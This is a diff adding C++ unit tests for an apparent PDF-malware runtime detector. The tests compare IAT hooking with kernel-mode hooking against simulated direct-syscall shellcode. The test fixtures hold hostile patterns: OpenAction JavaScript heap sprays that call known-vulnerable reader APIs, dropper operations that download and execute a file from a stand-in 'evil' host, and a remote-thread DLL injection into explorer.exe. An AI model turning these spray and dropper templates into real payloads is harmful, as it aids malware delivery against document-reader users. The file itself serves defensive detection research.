@@ -1,0 +1,158 @@
+// Tests for the IAT-bypass arms race (§III-E): shellcode that resolves
+// APIs directly (GetProcAddress / raw syscall) walks past IAT hooks — the
+// evasion the paper acknowledges — while the kernel-mode hook option (its
+// stated future hardening) still sees and confines everything.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+namespace {
+
+struct ModeHarness {
+  sy::Kernel kernel;
+  sp::Rng rng;
+  std::unique_ptr<co::RuntimeDetector> detector;
+  std::unique_ptr<co::FrontEnd> frontend;
+  std::unique_ptr<rd::ReaderSim> reader;
+
+  explicit ModeHarness(co::DetectorConfig::HookMode mode) : rng(99) {
+    co::DetectorConfig cfg;
+    cfg.hook_mode = mode;
+    detector = std::make_unique<co::RuntimeDetector>(kernel, rng, cfg);
+    frontend = std::make_unique<co::FrontEnd>(rng, detector->detector_id());
+    reader = std::make_unique<rd::ReaderSim>(kernel);
+    detector->attach(*reader);
+  }
+
+  co::Verdict run_direct_call_dropper() {
+    // Every shellcode op uses the '!' direct-call path, and the document
+    // is mimicry-grade (padded, unobfuscated) so no static feature can
+    // compensate for the missing syscall visibility.
+    rd::ShellcodeProgram prog;
+    prog.ops.push_back({"!DROP", {"http://evil/by.exe", "c:/by.exe"}});
+    prog.ops.push_back({"!EXEC", {"c:/by.exe"}});
+    cp::DocumentBuilder builder(rng);
+    builder.add_pages(5, 600);
+    builder.add_padding_objects(40);
+    builder.set_open_action_js(
+        "var unit = unescape('%u9090%u9090') + '" +
+        rd::encode_shellcode(prog) + "';"
+        "var spray = unit; while (spray.length < 2097152) spray += spray;"
+        "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+    co::FrontEndResult fe = frontend->process(builder.build());
+    detector->register_document(fe.record.key, "bypass.pdf", fe.features);
+    reader->open_document(fe.output, "bypass.pdf");
+    return detector->verdict(fe.record.key);
+  }
+};
+
+}  // namespace
+
+TEST(KernelVsIat, DirectCallsBypassIatHooksOnly) {
+  sy::Kernel kernel;
+  auto& proc = kernel.create_process("AcroRd32.exe");
+  int iat_hits = 0, kernel_hits = 0;
+  kernel.install_hook(proc.pid(), "NtCreateFile", [&](const sy::ApiEvent& e) {
+    if (!e.post) ++iat_hits;
+    return sy::ApiOutcome::kAllow;
+  });
+  kernel.install_kernel_hook("NtCreateFile", [&](const sy::ApiEvent& e) {
+    if (!e.post) ++kernel_hits;
+    return sy::ApiOutcome::kAllow;
+  });
+
+  kernel.call_api(proc.pid(), "NtCreateFile", {"a.txt", "x"});
+  EXPECT_EQ(iat_hits, 1);
+  EXPECT_EQ(kernel_hits, 1);
+
+  kernel.call_api(proc.pid(), "NtCreateFile", {"b.txt", "x"},
+                  sy::Kernel::CallPath::kDirect);
+  EXPECT_EQ(iat_hits, 1) << "direct call must not touch the import table";
+  EXPECT_EQ(kernel_hits, 2) << "kernel hook sees every caller";
+}
+
+TEST(KernelVsIat, KernelHooksCanVetoDirectCalls) {
+  sy::Kernel kernel;
+  auto& proc = kernel.create_process("AcroRd32.exe");
+  kernel.install_kernel_hook("CreateRemoteThread", [](const sy::ApiEvent&) {
+    return sy::ApiOutcome::kBlock;
+  });
+  auto& victim = kernel.create_process("explorer.exe");
+  auto r = kernel.call_api(proc.pid(), "CreateRemoteThread",
+                           {std::to_string(victim.pid()), "evil.dll"},
+                           sy::Kernel::CallPath::kDirect);
+  EXPECT_FALSE(r.allowed);
+  EXPECT_TRUE(victim.injected_dlls().empty());
+}
+
+TEST(KernelVsIat, IatDetectorMissesDirectCallShellcode) {
+  // The documented gap: with IAT hooks, direct-call shellcode executes
+  // its drop+exec without the detector seeing the syscalls. (The spray is
+  // still visible via SOAP memory checks — one feature, under threshold.)
+  ModeHarness h(co::DetectorConfig::HookMode::kIat);
+  const co::Verdict v = h.run_direct_call_dropper();
+  EXPECT_FALSE(v.malicious) << "IAT mode should miss pure direct-call attacks";
+  // The attack actually succeeded: the payload runs un-confined.
+  bool escaped_payload = false;
+  for (const auto& [pid, proc] : h.kernel.processes()) {
+    if (proc->image() == "c:/by.exe" && !proc->sandboxed()) escaped_payload = true;
+  }
+  EXPECT_TRUE(escaped_payload);
+}
+
+TEST(KernelVsIat, KernelModeDetectorCatchesDirectCallShellcode) {
+  ModeHarness h(co::DetectorConfig::HookMode::kKernelMode);
+  const co::Verdict v = h.run_direct_call_dropper();
+  EXPECT_TRUE(v.malicious) << "kernel hooks must close the bypass";
+  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/by.exe"));
+  for (const auto& [pid, proc] : h.kernel.processes()) {
+    if (proc->image() == "c:/by.exe") {
+      EXPECT_TRUE(proc->sandboxed());
+      EXPECT_TRUE(proc->terminated());
+    }
+  }
+}
+
+TEST(KernelVsIat, KernelModeStillZeroFalsePositiveOnBenign) {
+  ModeHarness h(co::DetectorConfig::HookMode::kKernelMode);
+  cp::DocumentBuilder builder(h.rng);
+  builder.add_pages(2, 400);
+  builder.set_open_action_js("var total = 1 + 2 + 3;");
+  co::FrontEndResult fe = h.frontend->process(builder.build());
+  h.detector->register_document(fe.record.key, "benign.pdf", fe.features);
+  h.reader->open_document(fe.output, "benign.pdf");
+  EXPECT_FALSE(h.detector->verdict(fe.record.key).malicious);
+}
+
+TEST(KernelVsIat, MixedShellcodeStillConvictsUnderIat) {
+  // Realistic malware mixes paths: one ordinary import call is enough for
+  // the IAT detector to convict and confine the rest.
+  ModeHarness h(co::DetectorConfig::HookMode::kIat);
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/mx.exe", "c:/mx.exe"}});  // via IAT
+  prog.ops.push_back({"!EXEC", {"c:/mx.exe"}});                      // direct
+  cp::DocumentBuilder builder(h.rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; this.media.newPlayer(null);");
+  co::FrontEndResult fe = h.frontend->process(builder.build());
+  h.detector->register_document(fe.record.key, "mixed.pdf", fe.features);
+  h.reader->open_document(fe.output, "mixed.pdf");
+  EXPECT_TRUE(h.detector->verdict(fe.record.key).malicious);
+  // The drop was seen and the file quarantined on alert...
+  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/mx.exe"));
+}
